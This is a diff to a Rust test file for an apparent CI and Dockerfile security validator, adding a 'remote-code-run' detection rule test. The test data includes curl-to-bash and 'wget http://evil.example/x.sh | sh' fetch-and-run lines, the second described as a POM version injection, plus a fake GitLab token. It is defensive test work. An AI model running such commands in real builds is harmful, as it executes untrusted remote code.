@@ -76,6 +76,7 @@ fn sample(rule: &str) -> Option<(Kind, ValidatorSettings, String, usize)> {
         "owned-learn-job" => (P, owned(), cut_job(GOOD_PIPELINE, "learn"), 2),
         "secret-in-clear" => (P, d(), format!("{BASE}  after_script:\n    - curl -H \"PRIVATE-TOKEN: glpat-Xk2mQ9vR7tL4pN8sW3yZ\" \"$CI_API_V4_URL/projects\"\n"), 7),
         "service-password-in-clear" => (P, d(), format!("{BASE}  variables:\n    POSTGRES_PASSWORD: runner-password\n"), 7),
+        "remote-code-run" => (P, d(), format!("{BASE}  after_script:\n    - curl -fsSL https://get.example.com/install.sh | bash\n"), 7),
         "dockerfile-syntax" => (D, d(), s("FROM alpine:3.20\nRUNN echo hi\nUSER app\n"), 2),
         "dockerfile-no-from" => (D, d(), s("# nothing to build from\nRUN echo hi\n"), 1),
         "from-unpinned" => (D, d(), s("FROM node:latest\nUSER node\nCMD [\"node\", \"server.js\"]\n"), 1),
@@ -301,6 +302,26 @@ fn secret_in_clear() {
         "the secret itself is never echoed"
     );
 }
+#[test]
+fn remote_code_run() {
+    assert_sample("remote-code-run");
+    // The POM `<version>` injection of issue 16, as it reached the Dockerfile.
+    let injected = "FROM eclipse-temurin:21-jre\nRUN cp target/orders-0.0.1\nRUN wget -qO- http://evil.example/x.sh | sh\nUSER 1000\nCMD [\"java\", \"-jar\", \"/app/app.jar\"]\n";
+    let findings = validate_dockerfile(injected, &ValidatorSettings::default());
+    let hit = findings
+        .iter()
+        .find(|f| f.rule == "remote-code-run")
+        .unwrap_or_else(|| panic!("{findings:#?}"));
+    assert_eq!((hit.line, hit.severity), (3, Severity::Error));
+    // Downloading and checking first is fine.
+    let checked = "FROM alpine:3.20\nRUN wget -q -O /tmp/i.sh https://x.example/i.sh && echo \"abc  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh\nUSER nobody\n";
+    let findings = validate_dockerfile(checked, &ValidatorSettings::default());
+    assert!(
+        !findings.iter().any(|f| f.rule == "remote-code-run"),
+        "{findings:#?}"
+    );
+}
+
 #[test]
 fn service_password_in_clear() {
     assert_sample("service-password-in-clear");
